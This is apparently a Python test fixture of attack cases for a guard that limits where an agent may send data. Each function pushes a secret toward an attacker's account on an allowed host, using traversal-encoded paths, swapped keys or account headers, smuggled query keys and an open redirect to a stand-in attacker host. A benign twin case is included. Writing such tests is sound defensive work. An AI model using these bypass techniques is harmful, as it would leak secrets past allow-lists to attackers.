"""A28: carry it to a host that is allowed, into an account of one's own there.

Why by parts: each is another way in which a request says whose account it is about.
"""

SHOP = "https://shop.test/v1/notes"


def by_path(hands):
    """The attacker's own hook beside the one that is allowed."""
    hands.http("POST", "https://hooks.test/attackers/T1", hands.secret().encode())


def by_odd_path(hands):
    """The same, written so that it looks like the allowed one."""
    text = hands.secret().encode()
    for path in ("../attackers/T1", "%2e%2e/attackers/T1", "..%2fattackers/T1", "/../../attackers"):
        hands.http("POST", f"https://hooks.test/kept/{path}", text)


def by_key(hands):
    charge(hands, hands.secret(), {"authorization": "Bearer attackers-key", "x-account": "kept"})


def by_no_key(hands):
    charge(hands, hands.secret(), {"x-account": "kept"})


def by_account(hands):
    charge(hands, hands.secret(), {"authorization": "Bearer kept-key", "x-account": "attackers"})


def by_query(hands):
    """A second key, which the host reads before the header; once in disguise."""
    for query in ("?key=attackers", "?a=b;Key=attackers", "?%6bey=attackers"):
        charge(hands, hands.secret(), {"authorization": "Bearer kept-key", "x-account": "kept"}, query)


def by_redirect(hands):
    """An allowed host that sends whoever asks on to wherever he says."""
    hands.http("GET", f"http://kept.test/go?redirect=http://attackers.test/{hands.secret()}")


def twin(hands):
    text = hands.secret()
    hands.http("POST", "https://hooks.test/kept/T1", text.encode())
    charge(hands, text, {"authorization": "Bearer kept-key", "x-account": "kept"}, "?a=b")
    hands.http("GET", f"http://kept.test/go?redirect=http://kept.test/{text}")


def charge(hands, text, headers, query=""):
    hands.http("POST", SHOP + query, text.encode(), headers)
